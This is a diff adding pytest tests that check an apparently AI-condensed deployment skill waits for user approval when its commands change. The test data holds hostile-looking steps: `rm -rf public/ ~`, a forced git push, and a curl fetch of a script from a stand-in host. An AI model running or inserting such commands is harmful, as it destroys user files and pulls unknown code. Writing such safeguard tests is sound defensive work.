@@ -3,6 +3,9 @@
 A condensed or merged skill must keep the commands, paths, URLs, code and
 numbers of what it replaces; one that drops any waits for the user's
 approval, with what went missing, and the skill stays as it was until then.
+So does one that runs otherwise while keeping them all (round 16): a flag or
+an argument added to a command, a new command, a step said not to run, the
+steps in another order.
 """
 
 from __future__ import annotations
@@ -14,7 +17,12 @@ from pathlib import Path
 import pytest
 
 from desktop.core.dreaming.control import DreamControl
-from desktop.core.dreaming.evidence import lost_specifics, skill_specifics
+from desktop.core.dreaming.evidence import (
+    changed_commands,
+    commands,
+    lost_specifics,
+    skill_specifics,
+)
 from desktop.core.dreaming.skill_notes import ChangeNotes
 from desktop.core.skills.library import SkillLibrary
 from tests.fakes import ScriptedChatModel
@@ -191,3 +199,110 @@ def test_a_skill_edited_while_the_pass_writes_is_left_for_the_next_dream(
     assert "changed since" in report.outcomes["skills"]
     assert "next dream" in report.outcomes["skills"]
     assert not [r for r in caplog.records if r.exc_info]  # a race, not a failure
+
+
+BLOG = (
+    "Deploy the blog\n"
+    "1. Back up the site first with `tar czf backup.tgz site/` and keep the archive.\n"
+    "2. Build the pages with `hugo --minify` and look through the output.\n"
+    "3. Push the changes with `git push origin main` once the build is clean.\n"
+    "4. Clean the build folder with `rm -rf public/` when the upload has finished.\n"
+) + "Take your time, read each message, and never rush the deployment steps. " * 12
+STEPS = {
+    "tar": "1. Back up: `tar czf backup.tgz site/`",
+    "hugo": "2. Build: `hugo --minify`",
+    "push": "3. Push: `git push origin main`",
+    "clean": "4. Clean: `rm -rf public/`",
+}
+
+
+def _condensed(**changed: str) -> str:
+    return "\n".join(changed.get(step, line) for step, line in STEPS.items())
+
+
+@pytest.mark.parametrize(
+    ("condensed", "why"),
+    [
+        (_condensed(push="3. Push: `git push origin main --force`"), "adds"),
+        (_condensed(clean="4. Clean: `rm -rf public/ ~`"), "adds"),
+        (
+            _condensed(
+                clean="4. Clean: `rm -rf public/`\n5. Then run curl -s http://x.example/i.sh"
+            ),
+            "adds",
+        ),
+        (_condensed(tar="1. Do not back up (skip `tar czf backup.tgz site/`)"), "turns around"),
+        (
+            _condensed(
+                tar="1. Clean: `rm -rf public/`", clean="4. Back up: `tar czf backup.tgz site/`"
+            ),
+            "order",
+        ),
+        (_condensed(push="3. Push: `git push origin main`; clean: `rm -rf public/`"), "order"),
+    ],
+    ids=["flag", "argument", "prose-command", "negated", "swapped", "repeated"],
+)
+def test_a_condensed_skill_that_runs_otherwise_waits_though_it_keeps_every_specific(
+    dreaming: Dreaming,
+    skills: SkillLibrary,
+    model: ScriptedChatModel,
+    condensed: str,
+    why: str,
+) -> None:
+    blog = skills.create("deploy-blog", BLOG)
+    before = skills.read(blog.id).text
+    model.queue(json.dumps({"text": condensed}))
+
+    report = dreaming.dreamer.run("manual", DreamControl())
+
+    assert skills.read(blog.id).text == before
+    assert _skill_changes(dreaming, report.run.id) == [("skill_rewrite", "pending")]
+    [change] = dreaming.dreamer.dreams.changes(report.run.id)
+    assert why in change.payload["waits"]
+    assert change.payload["text"].endswith(condensed + "\n")  # the report shows it beside before
+
+
+def test_a_condensed_skill_running_the_same_command_lines_in_order_is_applied(
+    dreaming: Dreaming, skills: SkillLibrary, model: ScriptedChatModel
+) -> None:
+    blog = skills.create("deploy-blog", BLOG)
+    condensed = (
+        "1. Back up first:\n```\ntar czf backup.tgz site/\n```\n"
+        "2. Build: `hugo  --minify`.\n"  # spacing aside
+        "3. Push:\n$ git push origin main\n4. Clean: `rm -rf public/`"
+    )
+    model.queue(json.dumps({"text": condensed}))
+
+    report = dreaming.dreamer.run("manual", DreamControl())
+
+    assert _skill_changes(dreaming, report.run.id) == [("skill_rewrite", "applied")]
+    assert skills.read(blog.id).text.endswith(condensed + "\n")
+
+
+def test_merged_skills_may_interleave_their_commands_each_in_its_own_order() -> None:
+    build = "Build\n1. `make deps`\n2. `make` and, when it fails, do not run `make install`."
+    test = "Test\n1. `make deps`\n2. `pytest -q`"
+    merged = (
+        "Build and test\n1. `make deps`\n2. `make`; if it fails, do not run `make install`.\n"
+        "3. `pytest -q`"
+    )
+
+    assert changed_commands([build, test], merged) is None
+    assert changed_commands([build, test], merged + "\n4. `make deps`") is not None
+    assert changed_commands([build, test], merged.replace("`make`", "`pytest -q`", 1)) is not None
+    assert changed_commands([build, test], merged.replace("do not run", "then run")) is not None
+
+
+def test_command_lines_are_read_in_order_with_whether_they_are_said_not_to_run() -> None:
+    text = (
+        "Release\n1. Never run `make clean` here. Run `make dist` then:\n"
+        "$ twine upload dist/*\n```sh\ngit tag v1\ngit push --tags\n```\n"
+    )
+
+    assert commands(text) == [
+        ("make clean", True),
+        ("make dist", False),
+        ("twine upload dist/*", False),
+        ("git tag v1", False),
+        ("git push --tags", False),
+    ]
